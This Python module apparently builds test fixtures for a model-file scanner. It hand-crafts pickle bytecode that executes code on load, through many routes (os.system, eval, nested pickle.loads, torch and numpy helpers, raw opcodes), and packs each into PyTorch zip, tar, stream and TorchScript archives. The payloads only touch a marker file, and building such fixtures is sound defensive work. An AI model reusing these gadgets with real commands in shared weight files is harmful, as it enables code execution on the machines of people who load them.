"""Pickles that run code under an ordinary unpickler, in every form that a weights file has. Each leaves a mark.

A gadget is the bytes of a pickle; :func:`gadgets` builds them for one mark (a file that its code writes).
"""

import io
import pickle
import tarfile
import zipfile
from pathlib import Path


def text(value: str) -> bytes:
    """A text on the stack."""
    data = value.encode()
    return b"X" + len(data).to_bytes(4, "little") + data


def name(module: str, attribute: str) -> bytes:
    """What the file calls a function or a class, on the stack."""
    return f"c{module}\n{attribute}\n".encode()


def call(module: str, attribute: str, *args: bytes) -> bytes:
    """A call by REDUCE; every argument is what puts it on the stack."""
    # Protocol 4 looks up names with dots in them, a method of a class say.
    asked = text(module) + text(attribute) + b"\x93" if "." in attribute else name(module, attribute)
    return asked + b"(" + b"".join(args) + b"tR"


def whole(body: bytes, protocol: int = 2) -> bytes:
    """A pickle of what the body leaves on the stack."""
    return b"\x80" + bytes([protocol]) + body + b"."


def gadgets(mark: Path) -> dict[str, bytes]:
    """Kind -> a pickle that writes the file `mark` under an ordinary unpickler."""
    path, code, shell = str(mark), f"open({str(mark)!r}, 'w').close()", f"touch {mark}"
    inner = whole(call("builtins", "exec", text(code)))
    nested = b"B" + len(inner).to_bytes(4, "little") + inner
    bodies = {
        "os.system": call("os", "system", text(shell)),
        "posix.system": call("posix", "system", text(shell)),
        "eval": call("builtins", "eval", text(code)),
        "eval of Python 2": call("__builtin__", "eval", text(code)),
        "exec": call("builtins", "exec", text(code)),
        "open": call("builtins", "open", text(path), text("w")),
        "subprocess": call("subprocess", "check_output", b"]" + text("touch") + b"a" + text(path) + b"a"),
        "getattr of an import": call("builtins", "getattr", call("builtins", "__import__", text("os")), text("system"))
        + b"("
        + text(shell)
        + b"tR",
        "getattr of a module's dict": call(
            "builtins", "getattr", call("importlib", "import_module", text("os")), text("system")
        )
        + b"("
        + text(shell)
        + b"tR",
        "functools.partial": call("functools", "partial", name("builtins", "exec"), text(code)) + b")R",
        "operator.methodcaller": call("operator", "methodcaller", text("touch"))
        + b"("
        + call("pathlib", "PosixPath", text(path))
        + b"tR",
        "map in a list": call(
            "builtins", "list", call("builtins", "map", name("builtins", "exec"), b"]" + text(code) + b"a")
        ),
        "runpy": call("runpy", "_run_code", call("builtins", "compile", text(code), text("x"), text("exec")), b"}"),
        "pickle.loads": call("pickle", "loads", nested),
        "_pickle.loads": call("_pickle", "loads", nested),
        "pathlib": call("pathlib", "Path.touch", call("pathlib", "PosixPath", text(path))),
        "torch.storage": call("torch.storage", "_load_from_bytes", nested),
        "a helper of torch": call("torch.utils.collect_env", "run", text(shell)),
        "numpy": call("numpy.testing._private.utils", "runstring", text(code), b"}"),
        "timeit": call("timeit", "timeit", text(code), text("pass"), name("time", "perf_counter"), b"K\x01"),
        "a debugger": call("cProfile", "run", text(code)),
        "an interpreter": call(
            "code",
            "InteractiveInterpreter.runcode",
            call("code", "InteractiveInterpreter"),
            call("builtins", "compile", text(code), text("x"), text("exec")),
        ),
        "the host's config": call("mmengine.config", "Config.fromstring", text(code), text(".py")),
        "BUILD": call("types", "SimpleNamespace")
        + b"}"
        + text("__setstate__")
        + call("functools", "partial", name("builtins", "exec"), text(code))
        + b"sb"
        + b"}b",
        "NEWOBJ": call(
            "builtins",
            "tuple",
            name("builtins", "map") + b"(" + name("builtins", "exec") + b"]" + text(code) + b"at\x81",
        ),
        "INST": b"(" + text(code) + b"ibuiltins\nexec\n",
        "OBJ": b"(" + name("builtins", "exec") + text(code) + b"o",
    }
    return {kind: whole(body, protocol=4 if b"\x93" in body else 2) for kind, body in bodies.items()}


def in_zip(data: bytes, path: Path, **more: bytes) -> Path:
    """A torch archive around a pickle; `more` are entries beside it, by name."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("x/data.pkl", data)
        archive.writestr("x/version", "3\n")
        for entry, content in more.items():
            archive.writestr(f"x/{entry}", content)
    return path


def in_stream(data: bytes, path: Path) -> Path:
    """The format before zip around a pickle."""
    with open(path, "wb") as file:
        for head in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}):
            pickle.dump(head, file, protocol=2)
        file.write(data)
        pickle.dump([], file, protocol=2)
    return path


def plain(data: bytes, path: Path) -> Path:
    """The pickle alone."""
    path.write_bytes(data)
    return path


def in_tar(data: bytes, path: Path) -> Path:
    """The format of 2016: a tar of pickles."""
    with tarfile.open(path, "w", format=tarfile.USTAR_FORMAT) as archive:
        for entry in ("storages", "tensors", "pickle"):
            info = tarfile.TarInfo(entry)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return path


def in_torchscript(data: bytes, path: Path) -> Path:
    """A TorchScript archive around a pickle."""
    return in_zip(data, path, **{"constants.pkl": data, "code/__torch__.py": b""})


def among_others(data: bytes, path: Path) -> Path:
    """A zip with several pickles: one harmless, one not."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("a/data.pkl", pickle.dumps({}))
        archive.writestr("b/data.pkl", data)
    return path


FORMS = {
    "zip": in_zip,
    "stream": in_stream,
    "plain": plain,
    "tar": in_tar,
    "TorchScript": in_torchscript,
    "two pickles": among_others,
}
KINDS = tuple(gadgets(Path("mark")))
